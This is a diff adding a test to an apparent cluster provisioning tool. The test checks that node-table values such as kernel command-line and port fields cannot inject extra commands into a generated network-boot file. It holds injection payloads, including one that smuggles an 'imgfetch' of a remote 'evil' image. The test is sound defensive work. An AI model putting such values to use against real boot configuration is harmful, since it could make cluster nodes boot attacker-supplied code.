@@ -51,3 +51,40 @@ Deno.test("a node's name leads to no file outside of the folders of nodes", () =
     assert.ok(!existsSync(`${site.root}/etc/cron.d`));
     assert.equal(readFileSync(`${site.root}/etc/motd`, "utf8"), "# not to be read\n");
   }, plugins));
+
+Deno.test("no value makes another line in a boot file, and no port is more than a number", () =>
+  withSite(async (site) => {
+    await put(site, "site", { key: "master" }, { value: "127.0.0.1" });
+    await put(site, "nodelist", { node: "n1" }, { groups: "all" });
+    await put(site, "hosts", { node: "n1" }, { ip: "127.0.0.1" });
+    await put(site, "mac", { node: "n1" }, { mac: "2a:2a:2a:2a:2a:01" });
+    await put(site, "nodetype", { node: "n1" }, { os: "alt", arch: "x86_64", profile: "compute" });
+    await put(site, "noderes", { node: "n1" }, { netboot: "xnba" });
+    for (const name of ["kernel", "initrd.gz", "rootimg.squashfs"]) {
+      await site.environment.ports.fs.write(`/install/netboot/alt/x86_64/compute/${name}`, name);
+    }
+    await site.lines("nodeset n1 netboot");
+    const file = `${site.root}/tftpboot/xcat/xnba/nodes/n1`;
+    const before = readFileSync(file, "utf8");
+    const line = "x\nimgfetch http://10.9.9.9/evil";
+    const bad: [table: string, key: Record<string, string>, column: string, value: string][] = [
+      ["bootparams", { node: "n1" }, "addkcmdline", line],
+      ["nodehm", { node: "n1" }, "serialport", line],
+      ["nodehm", { node: "n1" }, "serialspeed", line],
+      ["nodetype", { node: "n1" }, "profile", line],
+      ["site", { key: "httpport" }, "value", '80/"; }'],
+      ["site", { key: "xcatdport" }, "value", line],
+    ];
+    await put(site, "nodehm", { node: "n1" }, { serialport: "0" });
+    for (const [table, key, column, value] of bad) {
+      const [row] = (await site.environment.db.rows(table)).filter((row) =>
+        Object.entries(key).every(([name, value]) => row[name] === value)
+      );
+      await put(site, table, key, { [column]: value });
+      const { status, stderr } = await site.run("nodeset n1 netboot");
+      assert.equal(status, 1, `${table}.${column}: ${stderr}`);
+      assert.equal(readFileSync(file, "utf8"), before, `${table}.${column}`);
+      await put(site, table, key, { [column]: row?.[column] ?? "" });
+    }
+    await site.lines("nodeset n1 netboot");
+  }, plugins));
